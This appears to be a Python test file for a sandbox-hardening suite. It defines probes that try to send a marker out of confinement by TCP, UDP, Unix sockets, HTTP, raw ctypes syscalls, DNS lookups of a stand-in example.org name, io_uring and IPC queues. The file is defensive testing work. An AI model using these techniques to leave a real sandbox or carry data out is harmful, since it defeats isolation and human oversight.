"""Calling home."""

from tests.attacks.corpus import WALLS, Code, Kind
from tests.attacks.lab import FULL

KIND = Kind("network")

CALLS = {
    "tcp": ("Connect to a server on this machine.", """
import socket
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", socket.gethostname()):
    try:
        with socket.create_connection((host, PORT), 1) as s: s.sendall(MARK.encode())
    except OSError: pass
"""),
    "udp": ("Send a datagram.", """
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.sendto(MARK.encode(), ("127.0.0.1", PORT))
"""),
    "dns": ("Carry words out in names to be resolved.", """
import socket
socket.setdefaulttimeout(1)
try:
    socket.getaddrinfo(MARK + ".example.org", 80); tell("resolved")
except OSError: pass
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.sendto(MARK.encode(), ("127.0.0.1", PORT))
"""),
    "abstract-socket": ("Connect to an abstract Unix socket.", """
import socket
with socket.socket(socket.AF_UNIX) as s:
    s.settimeout(1); s.connect("\\0" + ABSTRACT); s.sendall(MARK.encode())
"""),
    "unix-socket": ("Connect to a Unix socket by its path.", """
import socket
with socket.socket(socket.AF_UNIX) as s:
    s.settimeout(1); s.connect(SOCKET); s.sendall(MARK.encode())
"""),
    "http-client": ("Fetch by urllib, an opener of one's own and a subprocess.", """
import subprocess, urllib.request
url = f"http://127.0.0.1:{PORT}/{MARK}"
try: urllib.request.urlopen(url, timeout=1)
except Exception: pass
code = f"import urllib.request; urllib.request.urlopen('{url}', timeout=1)"
subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=3)
"""),
    "raw-system-call": ("Connect by the bare system call, past Python's socket module.", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
s = libc.socket(2, 1, 0)
address = (2).to_bytes(2, "little") + PORT.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
if s >= 0 and libc.connect(s, address, 16) == 0: libc.send(s, MARK.encode(), len(MARK), 0)
"""),
    "other-families": ("Open netlink, packet, vsock, bluetooth and crypto sockets.", """
import socket
for family, kind in ((17, 3), (40, 1), (31, 3), (38, 5), (2, 3)):
    try: socket.socket(family, kind).close(); tell("opened a socket of family", family)
    except OSError: pass
"""),
    "listen": ("Wait for connections as a server of one's own.", """
import socket
s = socket.socket()
try:
    s.connect(("127.0.0.1", PORT)); s.sendall(MARK.encode())
except OSError: pass
"""),
    "io-uring": ("Ask for io_uring, which goes past filters of system calls.", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(256)
if libc.syscall(425, 4, room) >= 0: tell("has io_uring")
"""),
    "ipc-queue": ("Leave words in System V and POSIX queues for somebody outside.", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
key = 0x5EC2E7
where = libc.msgget(key, 0o1666)
if where >= 0: libc.msgsnd(where, (1).to_bytes(8, "little") + MARK.encode(), len(MARK), 2048)
"""),
}  # fmt: skip

ATTACKS = tuple(
    KIND.code(f"net-{name}", what, "machine", Code(code, right=True), worth=FULL, stopped_by=WALLS)
    for name, (what, code) in CALLS.items()
)
